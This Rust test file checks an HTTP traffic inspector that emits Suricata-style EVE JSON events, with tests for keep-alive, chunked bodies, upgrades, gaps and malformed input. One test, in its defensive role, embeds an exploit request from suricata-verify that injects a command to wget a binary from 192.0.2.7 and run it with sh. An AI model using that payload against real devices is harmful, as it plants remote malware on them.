use super::*;
use crate::text::harness::{bytewise, cs, info, run, sc, split, Outcome, Piece};
use flowengine::inspect::Transport;
use proptest::prelude::*;
use serde_json::json;

fn go(pieces: &[Piece]) -> Outcome {
    run(&HttpInspector::new(), &info(Transport::Tcp, 80), pieces)
}

fn events(o: &Outcome) -> Vec<Value> {
    o.events
        .iter()
        .map(|(t, v)| {
            assert_eq!(*t, "http");
            v.clone()
        })
        .collect()
}

const REQ: &[u8] = b"GET /jansson/releases/jansson-2.6.tar.bz2 HTTP/1.1\r\n\
User-Agent: Wget/1.13.4 (linux-gnu)\r\n\
Accept: */*\r\n\
Host: www.digip.org\r\n\
Referer: http://www.digip.org/jansson/\r\n\
Connection: Keep-Alive\r\n\r\n";

fn resp_426() -> Vec<u8> {
    let mut r = b"HTTP/1.1 200 OK\r\n\
Date: Tue, 14 Jan 2014 12:00:00 GMT\r\n\
Server: Apache/2.2.22 (Debian)\r\n\
Content-Length: 426\r\n\
Keep-Alive: timeout=5, max=100\r\n\
Connection: Keep-Alive\r\n\
Content-Type: application/x-bzip2\r\n\r\n"
        .to_vec();
    r.extend(std::iter::repeat_n(0x42u8, 426));
    r
}

/// The example of Suricata's EVE documentation (eve-json-format.rst, "Event type:
/// HTTP", extended logging), rebuilt as the exchange that produces it.
#[test]
fn one_transaction_matches_suricatas_documented_event() {
    let o = go(&[cs(REQ), sc(&resp_426())]);
    assert_eq!(
        events(&o),
        vec![json!({
            "hostname": "www.digip.org",
            "url": "/jansson/releases/jansson-2.6.tar.bz2",
            "http_user_agent": "Wget/1.13.4 (linux-gnu)",
            "http_content_type": "application/x-bzip2",
            "http_refer": "http://www.digip.org/jansson/",
            "http_method": "GET",
            "protocol": "HTTP/1.1",
            "status": 200,
            "length": 426
        })]
    );
    assert!(!o.done);
    assert_eq!(o.upgrade, None);
}

fn keepalive_exchange() -> Vec<Piece> {
    vec![
        cs(b"GET /a HTTP/1.1\r\nHost: Example.COM:8080\r\nUser-Agent: t/1\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n"),
        sc(b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 5\r\n\r\nhello"),
        cs(b"POST /form HTTP/1.1\r\nHost: example.com\r\nContent-Length: 7\r\n\r\na=1&b=2"),
        sc(b"HTTP/1.1 302 Found\r\nLocation: /next\r\nTransfer-Encoding: chunked\r\n\r\n4;x=y\r\nab\r\n\r\n3\r\ncde\r\n0\r\nX-T: 1\r\n\r\n"),
        cs(b"HEAD /h HTTP/1.0\r\nHost: example.com\r\n\r\n"),
        sc(b"HTTP/1.0 200 OK\r\nContent-Length: 999\r\n\r\n"),
        cs(b"GET /304 HTTP/1.1\r\nHost: example.com\r\n\r\n"),
        sc(b"HTTP/1.1 304 Not Modified\r\nETag: x\r\n\r\n"),
    ]
}

fn keepalive_expected() -> Vec<Value> {
    vec![
        json!({"hostname": "example.com", "http_port": 8080, "url": "/a", "http_user_agent": "t/1",
               "xff": "1.2.3.4", "http_content_type": "text/html", "http_method": "GET",
               "protocol": "HTTP/1.1", "status": 200, "length": 5}),
        // `length` is libhtp's message length, as Suricata logs it: the chunk-size
        // lines, data and line ends up to the last chunk's line (7 + 4 + 2 + 3 + 3 +
        // 2 + 3), not the 7 data bytes, nor the trailer.
        json!({"hostname": "example.com", "url": "/form", "http_method": "POST",
               "protocol": "HTTP/1.1", "status": 302, "redirect": "/next", "length": 24}),
        json!({"hostname": "example.com", "url": "/h", "http_method": "HEAD",
               "protocol": "HTTP/1.0", "status": 200, "length": 0}),
        json!({"hostname": "example.com", "url": "/304", "http_method": "GET",
               "protocol": "HTTP/1.1", "status": 304, "length": 0}),
    ]
}

#[test]
fn keep_alive_transactions_with_length_chunked_head_and_304() {
    assert_eq!(events(&go(&keepalive_exchange())), keepalive_expected());
}

#[test]
fn byte_by_byte_gives_the_same_events() {
    assert_eq!(
        events(&go(&bytewise(&keepalive_exchange()))),
        keepalive_expected()
    );
    let whole = go(&[cs(REQ), sc(&resp_426())]);
    assert_eq!(go(&bytewise(&[cs(REQ), sc(&resp_426())])), whole);
}

#[test]
fn pipelined_requests_pair_with_their_responses_in_order() {
    let o = go(&[
        cs(b"GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\n\r\nGET /3 HTTP/1.1\r\nHost: a\r\n\r\n"),
        sc(b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nxHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
    ]);
    let ev = events(&o);
    assert_eq!(ev.len(), 3);
    assert_eq!(
        (ev[0]["url"].clone(), ev[0]["status"].clone()),
        (json!("/1"), json!(200))
    );
    assert_eq!(
        (ev[1]["url"].clone(), ev[1]["status"].clone()),
        (json!("/2"), json!(404))
    );
    // The third never got an answer: emitted alone at flow end.
    assert_eq!(ev[2]["url"], json!("/3"));
    assert!(ev[2].get("status").is_none());
}

#[test]
fn request_without_response_is_emitted_at_flow_end() {
    let o = go(&[cs(b"GET /x HTTP/1.1\r\nHost: h\r\n\r\n")]);
    assert_eq!(
        events(&o),
        vec![
            json!({"hostname": "h", "url": "/x", "http_method": "GET", "protocol": "HTTP/1.1", "length": 0})
        ]
    );
}

#[test]
fn response_body_until_close_is_counted_and_emitted_at_end() {
    let o = go(&[
        cs(b"GET / HTTP/1.0\r\n\r\n"),
        sc(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nabc"),
        sc(b"defg"),
    ]);
    assert_eq!(
        events(&o),
        vec![
            json!({"url": "/", "http_method": "GET", "protocol": "HTTP/1.0", "status": 200,
                    "http_content_type": "text/plain", "length": 7})
        ]
    );
}

#[test]
fn interim_100_continue_is_not_the_final_response() {
    let o = go(&[
        cs(b"PUT /up HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n"),
        sc(b"HTTP/1.1 100 Continue\r\n\r\n"),
        cs(b"abc"),
        sc(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"),
    ]);
    let ev = events(&o);
    assert_eq!(ev.len(), 1);
    assert_eq!(ev[0]["status"], json!(201));
    assert_eq!(ev[0]["http_method"], json!("PUT"));
}

#[test]
fn absolute_uri_gives_the_hostname_and_ipv6_port() {
    let o = go(&[cs(
        b"GET http://user@WWW.Example.org./p?q=1 HTTP/1.1\r\nHost: other\r\n\r\n",
    )]);
    assert_eq!(events(&o)[0]["hostname"], json!("www.example.org"));
    let o = go(&[cs(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]:8443\r\n\r\n")]);
    assert_eq!(events(&o)[0]["hostname"], json!("[2001:db8::1]"));
    assert_eq!(events(&o)[0]["http_port"], json!(8443));
}

#[test]
fn websocket_upgrade_hands_the_flow_over() {
    let o = go(&[
        cs(b"GET /chat HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"),
        sc(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n\x81\x05hello"),
        cs(b"\x81\x85garbage after the upgrade"),
    ]);
    assert_eq!(o.upgrade, Some(("websocket", None)));
    assert!(o.done);
    assert_eq!(events(&o).len(), 1);
    assert_eq!(events(&o)[0]["status"], json!(101));
}

#[test]
fn h2c_upgrade_becomes_http2() {
    let o = go(&[
        cs(b"GET / HTTP/1.1\r\nHost: h\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"),
        sc(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
    ]);
    assert_eq!(o.upgrade, Some(("http2", None)));
    assert!(o.done);
}

#[test]
fn the_bytes_after_a_101_in_its_chunk_are_handed_to_the_new_protocol() {
    let answer: &[u8] = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n";
    let settings: &[u8] = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00";
    let req = cs(b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: h2c\r\n\r\n");
    let o = go(&[req.clone(), sc(&[answer, settings].concat())]);
    assert_eq!(o.upgrade, Some(("http2", None)));
    assert_eq!(o.handover, Some(answer.len()));
    // Split so the 101's header block ends in a later chunk: the offset is in that one.
    let o = go(&[
        req,
        sc(&answer[..10]),
        sc(&[&answer[10..], settings].concat()),
    ]);
    assert_eq!(o.handover, Some(answer.len() - 10));
}

#[test]
fn refused_upgrade_keeps_inspecting() {
    let o = go(&[
        cs(b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\n\r\n"),
        sc(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
        cs(b"GET /2 HTTP/1.1\r\nHost: h\r\n\r\n"),
    ]);
    assert_eq!(o.upgrade, None);
    assert!(!o.done);
    assert_eq!(events(&o).len(), 2);
}

#[test]
fn connect_tunnel_ends_inspection() {
    let o = go(&[
        cs(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
        sc(b"HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x01"),
    ]);
    assert!(o.done);
    assert_eq!(events(&o)[0]["http_method"], json!("CONNECT"));
    assert_eq!(events(&o)[0]["http_port"], json!(443));
}

#[test]
fn gap_in_a_counted_body_keeps_the_stream_in_step_and_counts_in_its_length() {
    let run_with = |encoding: &str| {
        let mut body_resp =
            format!("HTTP/1.1 200 OK\r\n{encoding}Content-Length: 1000\r\n\r\n").into_bytes();
        body_resp.extend([b'x'; 100]);
        let o = go(&[
            cs(b"GET /big HTTP/1.1\r\nHost: h\r\n\r\nGET /next HTTP/1.1\r\nHost: h\r\n\r\n"),
            sc(&body_resp),
            Piece::Gap(Direction::ToClient, 800),
            sc(&[b'x'; 100]),
            sc(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
        ]);
        let ev = events(&o);
        assert_eq!(ev.len(), 2);
        assert_eq!(
            (ev[1]["url"].clone(), ev[1]["status"].clone()),
            (json!("/next"), json!(200))
        );
        assert_eq!(ev[0]["url"], json!("/big"));
        ev[0]["length"].clone()
    };
    // libhtp counts the hole in the message length, as Suricata logs it...
    assert_eq!(run_with(""), json!(1000));
    // ...unless it decompresses the body: then only what it saw.
    assert_eq!(run_with("Content-Encoding: gzip\r\n"), json!(200));
}

#[test]
fn gap_in_headers_resynchronises_at_the_next_request() {
    let o = go(&[
        cs(b"GET /lost HTTP/1.1\r\nHo"),
        Piece::Gap(Direction::ToServer, 20),
        cs(b"ent: x\r\n\r\n"),
        cs(b"GET /found HTTP/1.1\r\nHost: h\r\n\r\n"),
    ]);
    let ev = events(&o);
    assert_eq!(ev.len(), 1);
    assert_eq!(ev[0]["url"], json!("/found"));
}

#[test]
fn mid_stream_response_without_request_is_reported() {
    let o = go(&[
        sc(b"tail of an earlier body\r\nmore body"),
        sc(b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 3\r\n\r\nnope"),
    ]);
    assert_eq!(
        events(&o),
        vec![json!({"status": 404, "http_content_type": "text/html", "length": 3})]
    );
}

#[test]
fn oversized_header_block_ends_that_direction() {
    let mut req = b"GET / HTTP/1.1\r\nHost: h\r\n".to_vec();
    for i in 0..2000 {
        req.extend(format!("X-Filler-{i}: {}\r\n", "y".repeat(40)).as_bytes());
    }
    req.extend(b"\r\n");
    let pieces: Vec<Piece> = req.chunks(1400).map(cs).collect();
    let o = go(&pieces);
    assert!(events(&o).is_empty());
    // And whole, in one chunk.
    let o = go(&[cs(&req)]);
    assert!(events(&o).is_empty());
}

#[test]
fn garbage_stops_the_inspector_without_panicking() {
    let junk: Vec<u8> = (0..400_000u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8 | 1)
        .collect();
    let junk: Vec<u8> = junk
        .into_iter()
        .map(|b| if b == b'\n' { b'.' } else { b })
        .collect();
    let pieces: Vec<Piece> = junk.chunks(1460).flat_map(|c| [cs(c), sc(c)]).collect();
    let o = go(&pieces);
    assert!(o.done);
    assert!(o.events.is_empty());
}

#[test]
fn bad_chunked_framing_resynchronises() {
    let o = go(&[
        cs(b"GET /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n"),
        sc(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nnonsense\r\n"),
        sc(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
    ]);
    let ev = events(&o);
    assert_eq!(ev.len(), 2);
    assert_eq!(ev[1]["url"], json!("/b"));
    assert_eq!(ev[1]["status"], json!(200));
}

proptest! {
    #[test]
    fn any_split_gives_the_same_events(cuts in proptest::collection::vec(any::<usize>(), 0..40)) {
        let pieces = keepalive_exchange();
        prop_assert_eq!(events(&go(&split(&pieces, &cuts))), keepalive_expected());
        let one = [cs(REQ), sc(&resp_426())];
        prop_assert_eq!(go(&split(&one, &cuts)), go(&one));
    }

    #[test]
    fn arbitrary_bytes_never_panic(
        chunks in proptest::collection::vec((any::<bool>(), proptest::collection::vec(any::<u8>(), 0..200), 0u32..50), 0..30)
    ) {
        let pieces: Vec<Piece> = chunks
            .into_iter()
            .map(|(to_server, bytes, gap)| {
                let dir = if to_server { Direction::ToServer } else { Direction::ToClient };
                if gap == 0 { Piece::Gap(dir, 7) } else { Piece::Data(dir, bytes) }
            })
            .collect();
        let _ = go(&pieces);
    }
}

/// The EVE writer's direct path writes the fields in Suricata's order, escaped, and the
/// same object as `to_json`.
#[test]
fn written_event_is_suricatas_field_order_and_equals_to_json() {
    let some = |s: &str| Some(s.to_owned());
    let ev = HttpEvent {
        hostname: some("www.digip.org"),
        http_port: Some(8080),
        url: some("/a\"b\\c"),
        http_user_agent: some("Wget/1.13.4 (linux-gnu)"),
        xff: some("10.0.0.1"),
        http_content_type: some("text/html"),
        http_refer: None,
        http_method: some("GET"),
        protocol: some("HTTP/1.1"),
        status: Some(301),
        redirect: some("http://x/"),
        length: 12,
    };
    let mut out = Vec::new();
    ev.write_json(&mut out);
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        r#"{"hostname":"www.digip.org","http_port":8080,"url":"/a\"b\\c","http_user_agent":"Wget/1.13.4 (linux-gnu)","xff":"10.0.0.1","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":301,"redirect":"http://x/","length":12}"#
    );
    assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), ev.to_json());
    let empty = HttpEvent::default();
    let mut out = Vec::new();
    empty.write_json(&mut out);
    assert_eq!(out, br#"{"length":0}"#);
}

/// Memory: between transactions a keep-alive connection holds no heap in the
/// inspector (the transaction queue and the header buffers are freed), whether its
/// header blocks came whole or a byte at a time; while a transaction is in flight,
/// its queue holds room for exactly one.
#[test]
fn idle_keepalive_connection_holds_no_heap() {
    let flow = info(Transport::Tcp, 80);
    for pieces in [keepalive_exchange(), bytewise(&keepalive_exchange())] {
        let mut fd = HttpFlow::default();
        let mut events = 0;
        let mut in_flight_max = 0;
        for piece in &pieces {
            let mut actions = flowengine::inspect::Actions::default();
            {
                let mut cx = Cx::new(flowengine::Timestamp::ZERO, &flow, &mut actions);
                match piece {
                    Piece::Data(dir, bytes) => fd.data(&mut cx, *dir, Chunk::Data(bytes)),
                    Piece::Gap(dir, n) => fd.data(&mut cx, *dir, Chunk::Gap(*n)),
                }
            }
            events += actions.events.len();
            if fd.txs.is_empty() {
                assert_eq!(fd.txs.capacity(), 0);
            } else {
                assert_eq!(fd.txs.capacity(), 1, "one transaction in flight");
            }
            in_flight_max = in_flight_max.max(fd.heap_bytes());
        }
        assert_eq!(events, 4);
        assert_eq!(fd.heap_bytes(), 0, "an idle connection holds no heap");
        assert!(in_flight_max >= std::mem::size_of::<Tx>());
    }
    // Per flow (the state) and per transaction in flight (its text apart).
    assert!(
        std::mem::size_of::<HttpFlow>() <= 112,
        "{}",
        std::mem::size_of::<HttpFlow>()
    );
    assert!(
        std::mem::size_of::<Tx>() <= 96,
        "{}",
        std::mem::size_of::<Tx>()
    );
}

/// A transaction's text fields, packed in one buffer while in flight, come out as
/// the event's fields: each present one with its text, absent ones absent, in any
/// combination; and the emitted event writes exactly what that `HttpEvent` writes, and
/// downcasts to it.
#[test]
fn packed_fields_unpack_to_the_event() {
    let all = Field::ALL;
    for mask in 0u32..(1 << FIELDS) {
        let mut tx = Tx::default();
        for (i, f) in all.iter().enumerate() {
            if mask & (1 << i) != 0 {
                // Empty texts too, and texts to escape.
                let text = ["", "x", "x\"\\\u{1}é ok, a longer one"][i % 3];
                tx.set(*f, |t| t.extend_from_slice(text.as_bytes()));
            }
        }
        let want = |i: usize| {
            (mask & (1 << i) != 0)
                .then(|| ["", "x", "x\"\\\u{1}é ok, a longer one"][i % 3].to_owned())
        };
        tx.http_port = (mask & 1 != 0).then_some(8080);
        tx.status = (mask & 2 != 0).then_some(200);
        tx.length = u64::from(mask);
        let ev = tx.to_event();
        assert_eq!(ev.url, want(0));
        assert_eq!(ev.http_method, want(1));
        assert_eq!(ev.protocol, want(2));
        assert_eq!(ev.http_user_agent, want(3));
        assert_eq!(ev.xff, want(4));
        assert_eq!(ev.http_refer, want(5));
        assert_eq!(ev.hostname, want(6));
        assert_eq!(ev.http_content_type, want(7));
        assert_eq!(ev.redirect, want(8));
        assert_eq!(ev.http_port, tx.http_port);
        assert_eq!(ev.status, tx.status);
        assert_eq!(ev.length, tx.length);
        let emitted = TxEvent::boxed(tx);
        let (mut written, mut expected) = (Vec::new(), Vec::new());
        emitted.write_json(&mut written);
        ev.write_json(&mut expected);
        assert_eq!(
            String::from_utf8(written).unwrap(),
            String::from_utf8(expected).unwrap()
        );
        assert_eq!(emitted.event_type(), "http");
        assert_eq!(emitted.as_any().downcast_ref::<HttpEvent>(), Some(&ev));
        assert_eq!(emitted.to_json(), ev.to_json());
        assert_eq!(format!("{emitted:?}"), format!("{ev:?}"));
    }
}

/// Header names are found whatever their case, and only the names themselves: the
/// word-at-a-time comparison agrees with `eq_ignore_ascii_case` on names one byte off.
#[test]
fn known_header_names_match_case_insensitively_and_exactly() {
    let names: [&[u8]; 9] = [
        b"host",
        b"upgrade",
        b"referer",
        b"location",
        b"user-agent",
        b"content-type",
        b"content-length",
        b"x-forwarded-for",
        b"transfer-encoding",
    ];
    for name in names {
        for i in 0..name.len() {
            for b in 0..=255u8 {
                let mut n = name.to_vec();
                n[i] = b;
                assert_eq!(name_is(&n, name), n.eq_ignore_ascii_case(name), "{n:?}");
            }
        }
        assert!(name_is(&name.to_ascii_uppercase(), name));
        assert!(!name_is(&name[1..], name));
    }
}
#[test]
fn a_response_with_content_length_0_has_no_body_and_the_next_one_is_read() {
    // Before, a length of 0 read as "no length": the body ran to the connection's
    // close and swallowed the responses after it.
    let o = go(&[
        cs(b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"),
        sc(b"HTTP/1.1 200 \r\nContent-Length: 0\r\nConnection: keep-alive\r\n\r\n"),
        cs(b"POST /b HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"),
        sc(b"HTTP/1.1 204 No Content\r\n\r\n"),
        cs(b"GET /c HTTP/1.1\r\nHost: x\r\n\r\n"),
        sc(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
    ]);
    let got: Vec<_> = o
        .events
        .iter()
        .map(|(_, v)| (v["url"].clone(), v["status"].clone(), v["length"].clone()))
        .collect();
    assert_eq!(
        got,
        vec![
            (json!("/a"), json!(200), json!(0)),
            (json!("/b"), json!(204), json!(0)),
            (json!("/c"), json!(200), json!(2)),
        ]
    );
}

#[test]
fn a_target_with_spaces_is_taken_as_libhtp_takes_it() {
    // Exploit traffic (suricata-verify's bug-5437-02): httparse refuses the line,
    // libhtp logs the method, the target with its space, and the protocol.
    let req: &[u8] = b"GET /shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm HTTP/1.1\r\n\
        Host: 127.0.0.1\r\nUser-Agent: Hello, world\r\n\r\n";
    let resp: &[u8] = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
    let pieces = [
        cs(req),
        sc(resp),
        cs(b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n"),
    ];
    for o in [go(&pieces), go(&bytewise(&pieces))] {
        let ev = events(&o);
        assert_eq!(ev.len(), 2, "{ev:?}");
        assert_eq!(
            ev[0]["url"],
            json!("/shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm")
        );
        assert_eq!(ev[0]["http_method"], json!("GET"));
        assert_eq!(ev[0]["protocol"], json!("HTTP/1.1"));
        assert_eq!(ev[0]["hostname"], json!("127.0.0.1"));
        assert_eq!(ev[0]["http_user_agent"], json!("Hello, world"));
        assert_eq!(ev[0]["status"], json!(404));
        assert_eq!(ev[1]["url"], json!("/next"));
    }
    // Not a request line (no protocol after the last space, a bad method): no event,
    // and the next request is still found.
    for junk in [&b"GET /a b c\r\n\r\n"[..], b"G@T /a b HTTP/1.1\r\n\r\n"] {
        let o = go(&[cs(junk), cs(b"GET /ok HTTP/1.1\r\nHost: h\r\n\r\n")]);
        let urls: Vec<Value> = events(&o).iter().map(|e| e["url"].clone()).collect();
        assert_eq!(
            urls,
            vec![json!("/ok")],
            "{:?}",
            String::from_utf8_lossy(junk)
        );
    }
    // An unknown method's line that is not HTTP, cut before its end: not waited for.
    let o = go(&[
        cs(b"XYZ abc def"),
        cs(b"\r\nGET /ok HTTP/1.1\r\nHost: h\r\n\r\n"),
    ]);
    let urls: Vec<Value> = events(&o).iter().map(|e| e["url"].clone()).collect();
    assert_eq!(urls, vec![json!("/ok")]);
}
